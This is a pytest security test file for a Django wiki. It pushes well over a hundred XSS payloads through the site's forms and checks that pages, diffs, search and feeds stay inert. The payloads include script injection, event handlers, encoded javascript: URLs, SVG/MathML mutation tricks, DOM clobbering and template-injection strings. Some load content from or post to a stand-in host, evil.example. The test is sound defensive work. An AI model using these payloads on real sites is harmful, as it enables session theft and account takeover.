"""The XSS corpus, submitted through the public forms as a signed-in resident would.

Every payload is saved through `<page>/edit/` (body, title and edit summary) and
through `<place>/new/` (a new project, the payload as its title too); then the
page, its history, a diff, the changes of a revision, recent changes, search,
the projects list and the neighbourhood page are parsed and searched for
anything that could run or load something. The sanitiser (wiki.sanitize) and
Django's escaping must hold on their own: no reliance on the CSP here.
"""

import re

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from wagtail.models import Site

from members.roles import RESIDENTS
from wiki.markup import normalise_source
from wiki.models import BODY_MAX_LENGTH, SUMMARY_MAX_LENGTH, ProjectPage, WikiPage, WikiSettings
from wiki.sanitize import ALLOWED_TAGS, clean
from wiki.services import TITLE_MAX_LENGTH

pytestmark = pytest.mark.django_db

# Payloads call window.__xss=1 (or alert): the browser test (tests/browser/test_xss.py) watches for both.
PAYLOADS = [
    # script and style
    "<script>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<script/xss src="data:,window.__xss=1"></script>',
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<style>@import 'javascript:window.__xss=1';</style>",
    '<style>*{background:url("javascript:window.__xss=1")}</style><p>fond</p>',
    '<p style="background:url(javascript:window.__xss=1)">stylé</p>',
    # event handlers
    "<img src=x onerror=window.__xss=1>",
    '<img src="/media/images/parc.jpg" onload="window.__xss=1" alt="parc">',
    "<body onload=window.__xss=1>corps</body>",
    '<div onmouseover="window.__xss=1">survole-moi</div>',
    '<a href="/lormont/" onclick="window.__xss=1">clic</a>',
    "<p onfocus=window.__xss=1 tabindex=0 autofocus>focus</p>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1><summary>plus</summary>texte</details>",
    '<video><source onerror="window.__xss=1"></video>',
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>défile</marquee>",
    "<select autofocus onfocus=window.__xss=1><option>a</option></select>",
    "<textarea autofocus onfocus=window.__xss=1>t</textarea>",
    "<button onclick=window.__xss=1>bouton</button>",
    '<table background="javascript:window.__xss=1"><tr><td onmouseover=window.__xss=1>case</td></tr></table>',
    '<h2 id="ancre" onmouseover="window.__xss=1">titre</h2>',
    "<img src=x:window.__xss=1 onerror=eval(src) alt=0>",
    '<a href="/lormont/" ONMOUSEOVER=window.__xss=1>majuscules</a>',
    "<img/src=x/onerror=window.__xss=1>",
    "<div/onmouseover='window.__xss=1'>barre</div>",
    '<a href="/x" onmouseover&#x3d;"window.__xss=1">entité</a>',
    "<blockquote onmouseenter=window.__xss=1>citation</blockquote>",
    "<ol start=1 onclick=window.__xss=1><li>un</li></ol>",
    "<span onpointerover=window.__xss=1>span</span>",
    # URLs in links and images
    '<a href="javascript:window.__xss=1">clic</a>',
    '<a href="JaVaScRiPt:window.__xss=1">clic</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">décimal</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1">hexa</a>',
    '<a href="&#0000106&#0000097vascript:window.__xss=1">zéros</a>',
    '<a href=" &#14; javascript:window.__xss=1">contrôle</a>',
    '<a href="java\nscript:window.__xss=1">saut</a>',
    '<a href="javascript&colon;window.__xss=1">deux-points</a>',
    '<a href="javascript&#x3a;window.__xss=1">deux-points hexa</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="VBScript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">données</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">données</a>',
    '<img src="javascript:window.__xss=1" alt="js">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">',
    '<img src="https://evil.example/pixel.png" alt="pixel">',
    '<img srcset="javascript:window.__xss=1 1x" src="/media/images/parc.jpg" alt="srcset">',
    '<img dynsrc="javascript:window.__xss=1" lowsrc="javascript:window.__xss=1" alt="vieux">',
    '<a xlink:href="javascript:window.__xss=1">xlink</a>',
    '<a href="/lormont/" formaction="javascript:window.__xss=1" ping="https://evil.example/">ping</a>',
    # SVG and MathML
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><foreignObject><iframe src="javascript:window.__xss=1"></iframe></foreignObject></svg>',
    "<svg><set attributeName=href to=javascript:window.__xss=1 /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>",
    '<math href="javascript:window.__xss=1">CLIQUE</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss=1">x</maction></math>',
    '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>",
    # embedding, base, meta, forms
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="data:text/html,<script>window.__xss=1</script>">',
    '<base href="javascript:/"><a href="/lormont/">relatif</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<link rel="stylesheet" href="javascript:window.__xss=1">',
    '<form action="javascript:window.__xss=1"><button>envoyer</button></form>',
    '<form action="https://evil.example/"><input name="q"><button>go</button></form>',
    '<button formaction="javascript:window.__xss=1">go</button>',
    '<isindex action="javascript:window.__xss=1" type=image>',
    "<frameset onload=window.__xss=1>",
    '<applet code="javascript:window.__xss=1"></applet>',
    "<template><script>window.__xss=1</script></template>",
    '<portal src="https://evil.example/"></portal>',
    # malformed, nested, unclosed
    '<a href="/x title="onmouseover=window.__xss=1">non fermé</a>',
    '<img src=x onerror="window.__xss=1"',
    "<a href='/x' onclick='window.__xss=1'",
    "<div><p>imbriqué<div onclick=window.__xss=1>profond</div>",
    "<<img src=x onerror=window.__xss=1>>",
    '<img """><script>window.__xss=1</script>">',
    '<a href="/x">dehors<a href="javascript:window.__xss=1">dedans</a></a>',
    "<p>ouvert <em>jamais <strong>fermé",
    "</p><script>window.__xss=1</script><p>",
    "<IMG SRC=JaVaScRiPt:window.__xss=1>",
    '<a href="/x"\x0conclick="window.__xss=1">saut de page</a>',
    "<img src=`x` onerror=`window.__xss=1`>",
    '<a href="/x" title="a" title=" onclick=window.__xss=1">double</a>',
    # comments, CDATA, processing instructions
    "<!--<script>window.__xss=1</script>-->",
    "<!-- --!><script>window.__xss=1</script> -->",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<!--[if gte IE 4]><script>window.__xss=1</script><![endif]-->",
    "<? echo '<script>window.__xss=1</script>'; ?>",
    "<!-- a --><img src=x onerror=window.__xss=1><!-- b -->",
    '<comment><img src="</comment><img src=x onerror=window.__xss=1>">',
    "<!--><img src=x onerror=window.__xss=1>-->",
    # template injection
    "{{ request.user.password }} {% debug %} {{ settings.SECRET_KEY }}",
    "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} #{7*7} <%= 7*7 %>",
    # wiki links
    '[[x" onmouseover="window.__xss=1|y]]',
    "[[<script>window.__xss=1</script>]]",
    "[[Génicart|<img src=x onerror=window.__xss=1>]]",
    "[[javascript:window.__xss=1]]",
    '[[Génicart|clic" onclick="window.__xss=1]]',
    "[[x' onfocus='window.__xss=1' autofocus='|y]]",
    "[[<img src=x onerror=window.__xss=1>|étiquette]]",
    "[[Page &quot; onmouseover=&quot;window.__xss=1]]",
    # Markdown links and images
    "[a](javascript:window.__xss=1)",
    "[a](JAVASCRIPT:window.__xss=1)",
    "[a](&#106;avascript:window.__xss=1)",
    "[a](javascript&#58;window.__xss=1)",
    "[a](java%0ascript:window.__xss=1)",
    "[a](<javascript:window.__xss=1>)",
    "[a]( javascript:window.__xss=1 )",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "![x](javascript:window.__xss=1)",
    "![x](data:image/svg+xml,<svg onload=window.__xss=1>)",
    '![x" onerror="window.__xss=1](/media/images/parc.jpg)',
    '[a](/x "titre\\" onmouseover=\\"window.__xss=1")',
    "[<img src=x onerror=window.__xss=1>](/lormont/)",
    "[a][ref]\n\n[ref]: javascript:window.__xss=1",
    "![i][img]\n\n[img]: data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    '[a][ref]\n\n[ref]: /x "t" onclick="window.__xss=1"',
    "<javascript:window.__xss=1>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,window.__xss=1>",
    "<java&#115;cript:window.__xss=1>",
    "<x@example.fr?subject=%22onmouseover=window.__xss=1>",
    'https://example.fr/"onmouseover="window.__xss=1',
    "https://example.fr/<script>window.__xss=1</script>",
    # Markdown blocks carrying HTML
    "```html\n<script>window.__xss=1</script>\n```",
    "`<img src=x onerror=window.__xss=1>`",
    "| a |\n|---|\n| <img src=x onerror=window.__xss=1> |",
    "# <script>window.__xss=1</script> titre {#id onclick=window.__xss=1}",
    "> <iframe src=javascript:window.__xss=1></iframe>",
    '<div markdown="1">[a](javascript:window.__xss=1)</div>',
    "* [a](javascript:window.__xss=1)\n* <img src=x onerror=window.__xss=1>",
    # DOM clobbering: an id on a heading must not shadow a global that scripts read.
    '<h2 id="__xss">clobber</h2>',
    '<h2 id="L_NO_TOUCH">Leaflet</h2><h3 id="L_DISABLE_3D">3D</h3>',
    '<h4 id="x" name="__xss">nom</h4><h5 id="ontouchstart">toucher</h5><h6 id="Main">grand</h6>',
    # links to other sites without a scheme
    '<a href="//evil.example/">sans protocole</a> [b](//evil.example/)',
]

# Strings aimed at titles and edit summaries (plain text everywhere: Django escapes them).
TEXT_PAYLOADS = [
    "<script>window.__xss=1</script> Titre",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>",
    "</title><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    'Titre" onmouseover="window.__xss=1',
    "Titre' autofocus onfocus='window.__xss=1",
    "{{ 7|add:7 }} {% now 'Y' %} ${7*7}",
    "[[Génicart]] <b>gras</b> &lt;i&gt;",
    "javascript:window.__xss=1",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "Titre <!-- commentaire non fermé",
]

UNSAFE_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "lowsrc", "dynsrc",
    "cite", "codebase", "code", "ping", "srcset", "longdesc", "usemap", "manifest", "icon",
}  # fmt: skip
# Elements that must never appear anywhere on a public page of the site.
NEVER = {
    "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "svg", "math", "template",
    "audio", "video", "source", "portal", "noscript", "isindex", "marquee", "xmp", "plaintext", "comment",
}  # fmt: skip
# Attributes the site's templates never use and residents may never set.
NEVER_ATTRIBUTES = {"style", "srcdoc", "srcset", "formaction", "xlink:href", "dynsrc", "lowsrc", "ping", "background"}
# Where text written by residents is shown; inside these only the allowlisted markup may appear.
CONTENT_REGIONS = (
    ".wiki-body, main h1, .breadcrumbs, .history-line, .history-summary, .diff-versions, .diff, .diff-text,"
    " .diff-facts, .search-results, .what-links-here, .project-groups, .card-list, .project-facts, .project-map-link"
)
REGION_TAGS = ALLOWED_TAGS | {"span", "ins", "del", "mark", "div", "section", "nav", "time", "dl", "dt", "dd"}
REGION_ATTRIBUTES = {
    "href", "title", "class", "rel", "id", "alt", "src", "width", "height", "align", "start", "datetime",
    "aria-current", "aria-label", "aria-labelledby", "aria-hidden", "role", "tabindex", "lang",
}  # fmt: skip
SAFE_ID = re.compile(r"(?!on)[a-z][a-z0-9_-]*")


def url_scheme_is_unsafe(value):
    """As a browser reads a URL (the parser decoded the entities): control characters and spaces dropped."""
    value = re.sub(r"[\x00-\x20\x7f-\x9f]+", "", value).lower()
    return value.startswith(UNSAFE_SCHEMES)


def is_own_image(src):
    src = src.strip()
    own = (settings.MEDIA_URL, f"{settings.SITE_URL}{settings.MEDIA_URL}", settings.STATIC_URL)
    return src.startswith(own) and not src.startswith("//")


def is_own_address(name, value):
    """The site's photo picker posts to this site (formaction) and its photos list this site's renditions
    (srcset): allowed when every address they hold is a path of this site, as tests/browser/test_xss.py says."""
    if name == "formaction":
        addresses = [value]
    elif name == "srcset":
        addresses = [item.strip().split(" ")[0] for item in value.split(",")]
    else:
        return False
    return all(re.match(r"/(?!/)", address) for address in addresses)


def scan(html):
    """Everything on the page that could run script, load something foreign or take over a form."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for element in soup.find_all(True):
        tag = element.name.lower()
        where = f"<{tag}>"
        if tag in NEVER:
            found.append(where)
        if tag == "script" and (element.string or "").strip():
            found.append(f"{where} inline")
        if tag == "script" and not is_own_image(element.get("src", "")):
            found.append(f"{where} src={element.get('src')!r}")
        if tag in ("meta", "link", "title") and element.find_parent("body") is not None:
            found.append(f"{where} in the body")
        if tag == "meta" and element.get("http-equiv"):
            found.append(f"{where} http-equiv")
        if tag == "form" and element.get("action") and not re.match(r"/(?!/)", element["action"]):
            found.append(f"{where} action={element.get('action')!r}")
        if tag == "img" and not is_own_image(element.get("src", "/media/")):
            found.append(f"{where} src={element.get('src')!r}")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            name = name.lower()
            if name.startswith("on") or (name in NEVER_ATTRIBUTES and not is_own_address(name, value)):
                found.append(f"{where} {name}")
            if name in URL_ATTRIBUTES and url_scheme_is_unsafe(value):
                found.append(f"{where} {name}={value!r}")
            if name == "content" and "url" in value.lower() and url_scheme_is_unsafe(value.split("=", 1)[-1]):
                found.append(f"{where} {name}={value!r}")
    for region in soup.select(CONTENT_REGIONS):
        for element in region.find_all(True):
            tag = element.name.lower()
            if tag not in REGION_TAGS:
                found.append(f"<{tag}> in {region.name}.{'.'.join(region.get('class') or [])}")
            for name, value in element.attrs.items():
                if name.lower() not in REGION_ATTRIBUTES:
                    found.append(f"<{tag}> {name} in content")
                if name == "id" and not SAFE_ID.fullmatch(value):
                    found.append(f"<{tag}> id={value!r} (could clobber a global)")
    return found


def one_line(text, limit):
    return " ".join(text.split())[:limit]


def assert_inert(response, *, region=None):
    assert response.status_code == 200, response.status_code
    html = response.text
    found = scan(html)
    assert found == [], f"{response.request['PATH_INFO']}: {found}"
    if region:
        assert BeautifulSoup(html, "html.parser").select_one(region) is not None, f"no {region} on the page"


@pytest.fixture
def market(territory, write_page, other_resident):
    return write_page(territory["genicart"], "Le marché", "Le marché a lieu le samedi.", user=other_resident)


@pytest.fixture
def signed_in(client, resident, territory):
    """A verified resident signed in; the rate limits (0 turns one off) are not what is tested here."""
    wiki_settings = WikiSettings.for_site(Site.objects.get(is_default_site=True))
    for limit in ("edits_per_hour", "edits_per_hour_new", "pages_per_day", "pages_per_day_new"):
        setattr(wiki_settings, limit, 0)
    wiki_settings.save()
    client.force_login(resident)
    return client


# Payloads saved together in one page (list pages, edit form).
CHUNK = 30
EDIT_CHUNK = 10


def ids(payloads, prefix):
    return [f"{prefix}{number:03d}" for number in range(len(payloads))]


# The scanner itself -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        '<div class="wiki-body"><script>window.__xss=1</script></div>',
        '<div class="wiki-body"><img src="/media/a.png" onerror="window.__xss=1"></div>',
        '<div class="wiki-body"><a href="  java&#x09;script&colon;window.__xss=1">x</a></div>',
        '<div class="wiki-body"><a href="&#x6A;avascript:alert(1)">x</a></div>',
        '<div class="wiki-body"><img src="https://evil.example/x.png"></div>',
        '<div class="wiki-body"><form action="/accounts/logout/"><button>x</button></form></div>',
        '<div class="wiki-body"><h2 id="__xss">x</h2></div>',
        '<p><a href="VBScript:msgbox(1)">x</a></p>',
        '<body><meta http-equiv="refresh" content="0;url=data:text/html,x"></body>',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<form action="https://evil.example/"><input name="q"></form>',
        '<p style="background:url(x)">x</p>',
    ],
)
def test_the_scanner_sees_what_could_run(html):
    assert scan(html) != []


def test_the_scanner_accepts_a_normal_page(signed_in, market):
    assert_inert(signed_in.get(market.url), region=".wiki-body")
    assert_inert(signed_in.get(market.url + "edit/"))


def test_the_corpus_is_large_and_distinct():
    assert len(PAYLOADS) >= 50
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert len(set(TEXT_PAYLOADS)) == len(TEXT_PAYLOADS)


# Through the edit form ----------------------------------------------------------------------


def post_edit(client, page, *, title, body, summary, preview=False):
    """The edit form as a browser submits it, from the page's latest revision; returns (response, base id)."""
    base = WikiPage.objects.get(pk=page.pk).latest_revision_id
    data = {"title": title, "body": body, "summary": summary, "base_revision_id": base}
    if preview:
        data["preview"] = "1"
    return client.post(page.url + "edit/", data), base


def saved(response):
    assert response.status_code == 302, response.context["form"].errors if response.context else response
    return True


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), EDIT_CHUNK), ids=lambda start: f"body{start:03d}+")
def test_payloads_through_the_edit_form(signed_in, market, start):
    """In the text (and the title and summary): preview, page, history and diff stay inert.

    A chunk of payloads per save, each in its own paragraph, keeps the corpus
    fast enough to run on both databases; the scanner's report names what leaked.
    """
    chunk = PAYLOADS[start : start + EDIT_CHUNK]
    body = "\n\n".join(["Avant."] + [f"Paragraphe {n}.\n\n{payload}" for n, payload in enumerate(chunk)] + ["Après."])
    title = one_line(f"Marché {chunk[0]}", TITLE_MAX_LENGTH)
    summary = one_line(" ".join(chunk), SUMMARY_MAX_LENGTH)

    preview, _base = post_edit(signed_in, market, title=title, body=body, summary=summary, preview=True)
    assert_inert(preview, region=".preview")

    response, base = post_edit(signed_in, market, title=title, body=body, summary=summary)
    assert saved(response)
    page = WikiPage.objects.get(pk=market.pk)
    assert page.body == normalise_source(body)  # stored as typed, cleaned on the way out
    assert_inert(signed_in.get(page.url), region=".wiki-body")
    assert_inert(signed_in.get(page.url + "history/"), region=".history-summary")
    assert_inert(signed_in.get(f"{page.url}diff/{base}/{page.latest_revision_id}/"), region=".diff")


@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=ids(TEXT_PAYLOADS, "text"))
def test_text_payload_as_title_and_summary_through_the_edit_form(signed_in, market, payload):
    response, base = post_edit(
        signed_in, market, title=payload, body=f"Avant.\n\n[[{payload}]]\n\n{payload}", summary=payload
    )
    assert saved(response)
    page = WikiPage.objects.get(pk=market.pk)
    assert page.title == " ".join(payload.replace("_", " ").split())
    assert_inert(signed_in.get(page.url), region=".wiki-body")
    assert_inert(signed_in.get(page.url + "history/"), region=".history-summary")
    assert_inert(signed_in.get(f"{page.url}diff/{base}/{page.latest_revision_id}/"), region=".diff-text")
    assert_inert(signed_in.get("/recent-changes/"), region=".history-summary")
    assert_inert(signed_in.get("/search/?q=Avant"), region=".search-results")
    assert_inert(signed_in.get(page.get_parent().url), region=".card-list")


# Through the creation form ------------------------------------------------------------------


def create_project(client, place, title, body, summary):
    data = {
        "kind": "project",
        "title": title,
        "body": body,
        "summary": summary,
        "status": "idea",
        "latitude": "44.8637",
        "longitude": "-0.5216",
    }
    assert saved(client.post(place.url + "new/", data))
    return ProjectPage.objects.get(title=" ".join(title.replace("_", " ").split()))


@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=ids(TEXT_PAYLOADS, "text"))
def test_text_payload_as_the_title_of_a_new_project(signed_in, territory, market, payload):
    place = territory["genicart"]
    project = create_project(signed_in, place, payload, f"Avant.\n\n{payload}", payload)
    response = signed_in.get(project.url)
    assert_inert(response, region=".project-facts")
    canvas = BeautifulSoup(response.text, "html.parser").select_one(".project-map-canvas")
    assert canvas["data-title"] == project.title  # escaped in the HTML, handed to the map as text
    assert_inert(signed_in.get(project.url + "history/"), region=".history-summary")
    assert_inert(signed_in.get("/recent-changes/?new=1"), region=".history-summary")
    assert_inert(signed_in.get("/search/?q=Avant"), region=".search-results")
    assert_inert(signed_in.get("/projects/"), region=".project-groups")
    assert_inert(signed_in.get(place.url), region=".project-groups")

    # Linked by its title from another page: the link and "what links here" show the title.
    assert saved(post_edit(signed_in, market, title=market.title, body=f"Voir [[{project.title}]].", summary="")[0])
    linkable = re.fullmatch(r"[^\[\]|]+", project.title)  # a wiki link's title has no brackets or pipe
    assert_inert(signed_in.get(market.url), region=".wiki-body a.wiki-link" if linkable else ".wiki-body")
    assert_inert(signed_in.get(project.url), region=".what-links-here a" if linkable else ".what-links-here")


@pytest.mark.parametrize("start", range(0, len(PAYLOADS), CHUNK), ids=lambda start: f"body{start:03d}+")
def test_the_corpus_as_new_projects_on_the_list_pages(signed_in, territory, start):
    """Each payload as the title, text and summary of a new project; then the pages that list them."""
    place = territory["genicart"]
    chunk = PAYLOADS[start : start + CHUNK]
    for number, payload in enumerate(chunk, start=start):
        title = one_line(f"Projet {number} {payload}", TITLE_MAX_LENGTH)
        project = create_project(signed_in, place, title, f"Avant.\n\n{payload}", one_line(payload, 255))
        assert len(project.body) <= BODY_MAX_LENGTH
    assert_inert(signed_in.get(project.url), region=".wiki-body")
    assert_inert(signed_in.get("/recent-changes/?new=1"), region=".history-summary")
    assert_inert(signed_in.get("/search/?q=Avant"), region=".search-results")
    assert_inert(signed_in.get("/projects/"), region=".project-groups")
    assert_inert(signed_in.get(place.url), region=".project-groups")
    assert_inert(signed_in.get(territory["lormont"].url))


# The fixes the corpus led to ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("heading", "kept"),
    [
        ('<h2 id="budget">t</h2>', True),
        ('<h2 id="etape-2_travaux">t</h2>', True),
        ('<h2 id="__xss">t</h2>', False),
        ('<h2 id="L_NO_TOUCH">t</h2>', False),
        ('<h2 id="Budget">t</h2>', False),
        ('<h2 id="ontouchstart">t</h2>', False),
        ('<h2 id="2e-etape">t</h2>', False),
        ('<h2 id="a b">t</h2>', False),
    ],
)
def test_heading_ids_cannot_shadow_a_global_of_the_pages_scripts(heading, kept):
    assert ("id=" in clean(heading)) is kept


def test_links_to_other_sites_without_a_scheme_are_marked_too():
    assert clean('<a href="//evil.example/x">x</a>') == '<a href="//evil.example/x" rel="nofollow ugc noopener">x</a>'
    assert clean('<a href="/lormont/">x</a>') == '<a href="/lormont/">x</a>'


# Atom feeds: their summaries are HTML for feed readers ---------------------------------------


def feed_html(response):
    """The HTML a feed reader would render from an Atom feed: the `type="html"` elements, unescaped once."""
    from xml.etree import ElementTree

    assert response.status_code == 200
    root = ElementTree.fromstring(response.content)
    return [element.text or "" for element in root.iter() if element.get("type") == "html"]


@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=ids(TEXT_PAYLOADS, "text"))
def test_text_payload_in_the_atom_feeds(signed_in, market, payload):
    assert saved(post_edit(signed_in, market, title=payload, body=f"Avant.\n\n{payload}", summary=payload)[0])
    page = WikiPage.objects.get(pk=market.pk)
    for url in (f"{page.url}history/feed/", "/recent-changes/feed/"):
        summaries = feed_html(signed_in.get(url))
        assert summaries, url
        for html in summaries:
            assert scan(html) == [], f"{url}: {html}"


# Pseudonyms are typed by members too ----------------------------------------------------------


@pytest.mark.parametrize("pseudonym", TEXT_PAYLOADS[:6], ids=ids(TEXT_PAYLOADS[:6], "text"))
def test_a_hostile_pseudonym_stays_text(client, make_user, market, territory, pseudonym):
    author = make_user("auteur@example.fr", pseudonym=pseudonym[:40], groups=[RESIDENTS])
    client.force_login(author)
    response, base = post_edit(client, market, title=market.title, body="Avant.\n\nUn ajout.", summary="ajout")
    assert saved(response)
    page = WikiPage.objects.get(pk=market.pk)
    assert_inert(client.get(page.url), region=".wiki-body")
    assert_inert(client.get(page.url + "history/"), region=".history-line")
    assert_inert(client.get(f"{page.url}diff/{base}/{page.latest_revision_id}/"), region=".diff-versions")
    assert_inert(client.get("/recent-changes/"), region=".history-line")
    assert_inert(client.get("/leaderboard/"))
    for url in (f"{page.url}history/feed/", "/recent-changes/feed/"):
        assert all(scan(html) == [] for html in feed_html(client.get(url)))
